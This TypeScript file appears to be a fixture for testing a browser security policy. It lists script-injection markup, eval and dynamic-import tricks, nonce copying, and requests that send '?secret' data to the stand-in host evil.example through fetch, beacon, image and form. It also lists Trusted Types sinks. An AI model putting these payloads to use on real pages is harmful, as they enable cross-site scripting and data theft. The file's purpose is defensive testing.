/** The host that no list names; a request to it is an escape too. */
export const EVIL = "evil.example";
const evil = `https://${EVIL}`;
const run = "ran(1)";

/** What a document contains that should do nothing: injected markup, or a script of the site that was made to do it. */
export interface PolicyCase {
  name: string;
  markup?: string;
  script?: string;
}

const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<script nonce>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<script src="${evil}/run.js"></script>`,
  `<script type=module src="${evil}/run.js"></script>`,
  `<link rel=modulepreload href="${evil}/run.js"><script type=module src="${evil}/run.js"></script>`,
  `<script type=importmap>{"imports":{"a":"${evil}/run.js"}}</script><script type=module>import "a"</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x:x onerror=${run}>`,
  `<svg onload=${run}></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${evil}/run.js"></script></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe src="${evil}/page"></iframe>`,
  `<object data="${evil}/page"></object>`,
  `<embed src="${evil}/page">`,
  `<base href="${evil}/"><img src=relative.png>`,
  `<img src="${evil}/a.png?secret">`,
  `<video poster="${evil}/a.png" src="${evil}/a.mp4"></video>`,
  `<link rel=stylesheet href="${evil}/a.css">`,
  `<style>@import "${evil}/a.css"</style>`,
  `<p style="background:url(${evil}/a.png)">x</p>`,
  `<link rel=preload as=script href="${evil}/run.js">`,
];

const scripts: Readonly<Record<string, string>> = {
  eval: `eval("${run}")`,
  Function: `new Function("${run}")()`,
  "a text as a timer": `setTimeout("${run}")`,
  "a script of another host": `const s = document.createElement("script"); s.src = "${evil}/run.js"; document.head.append(s)`,
  "a script of another host with the nonce copied": `const s = document.createElement("script"); s.nonce = document.currentScript.nonce; s.src = "${evil}/run.js"; document.head.append(s)`,
  "a script's text": `const s = document.createElement("script"); s.text = "${run}"; document.head.append(s)`,
  "a module of another host": `import("${evil}/run.js").catch(() => {})`,
  "a module in an address": `import("data:text/javascript,${run}").catch(() => {})`,
  "document.write": `document.write('<script src="${evil}/run.js"></' + 'script>')`,
  "a handler as an attribute": `const a = document.createElement("a"); a.setAttribute("onclick", "${run}"); a.click()`,
  "an address that is a script": `const a = document.createElement("a"); a.href = "javascript:${run}"; document.body.append(a); a.click()`,
  "markup with a handler": `document.body.insertAdjacentHTML("beforeend", "<img src=x:x onerror=${run}>")`,
  "a worker of a text": `new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => ${run}`,
  fetch: `fetch("${evil}/?secret").catch(() => {})`,
  "a beacon": `navigator.sendBeacon("${evil}/?secret", "x")`,
  "a picture": `new Image().src = "${evil}/?secret"`,
  "a form": `const f = document.createElement("form"); f.action = "${evil}/"; f.method = "post"; document.body.append(f); f.submit()`,
};

export const policyCases: readonly PolicyCase[] = [
  ...markup.map((text) => ({ name: text, markup: text })),
  ...Object.entries(scripts).map(([name, script]) => ({ name, script })),
];

/** Ways into the document that take text and want a trusted value; each sets `done` where it was let. */
export const typedSinks: Readonly<Record<string, string>> = {
  innerHTML: `document.createElement("p").innerHTML = "<b>x</b>"`,
  outerHTML: `document.body.append(document.createElement("p")); document.body.lastChild.outerHTML = "<b>x</b>"`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
  "document.write": `document.write("<b>x</b>")`,
  "a frame's srcdoc": `document.createElement("iframe").srcdoc = "<b>x</b>"`,
  "a script's src": `document.createElement("script").src = "/x.js"`,
  "a script's text": `document.createElement("script").text = "1"`,
  "a handler": `document.createElement("p").setAttribute("onclick", "1")`,
  DOMParser: `new DOMParser().parseFromString("<b>x</b>", "text/html")`,
  "a fragment": `document.createRange().createContextualFragment("<b>x</b>")`,
  Worker: `new Worker("/x.js")`,
  "a policy of one's own": `trustedTypes.createPolicy("mine", {})`,
};
